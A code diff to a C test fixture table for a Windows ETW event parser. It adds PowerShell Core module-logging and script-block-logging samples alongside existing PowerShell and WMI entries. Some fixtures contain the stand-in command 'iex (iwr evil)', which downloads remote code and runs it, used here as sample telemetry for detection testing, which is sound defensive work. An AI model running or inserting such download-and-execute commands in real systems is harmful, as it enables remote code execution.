@@ -269,6 +269,12 @@ static const struct etw_fixture etw_fixtures[] = {
 	{ETW_powershell, 4104, 1, 1, "4:1|4:1|w:iex (iwr evil)|w:6b1f4ee8-0000-0000-0000-000000000001|w:C:\\x.ps1",
 	 "ps_script pid 1000 LAB\\joe ScriptBlockText=\"iex (iwr evil)\" "
 	 "ScriptBlockId=6b1f4ee8-0000-0000-0000-000000000001 Path=\"C:\\\\x.ps1\""},
+	{ETW_powershell_core, 4103, 1, 1, "w:Host Application = powershell.exe|w:|w:CommandInvocation(Get-Item): \"Get-Item\"",
+	 "ps_module pid 1000 LAB\\joe Payload=\"CommandInvocation(Get-Item): \\\"Get-Item\\\"\" ContextInfo=\"Host "
+	 "Application = powershell.exe\""},
+	{ETW_powershell_core, 4104, 1, 1, "4:1|4:1|w:iex (iwr evil)|w:6b1f4ee8-0000-0000-0000-000000000001|w:C:\\x.ps1",
+	 "ps_script pid 1000 LAB\\joe ScriptBlockText=\"iex (iwr evil)\" "
+	 "ScriptBlockId=6b1f4ee8-0000-0000-0000-000000000001 Path=\"C:\\\\x.ps1\""},
 	{ETW_wmi_activity, 11, 0, 0,
 	 "w:{c}|4:1|4:2|w:Start IWbemServices::ExecQuery - root\\cimv2 : select x|w:LAB|w:LAB.example|w:LAB\\joe|"
 	 "4:1000|8:1|w:\\\\.\\root\\cimv2|4:1",
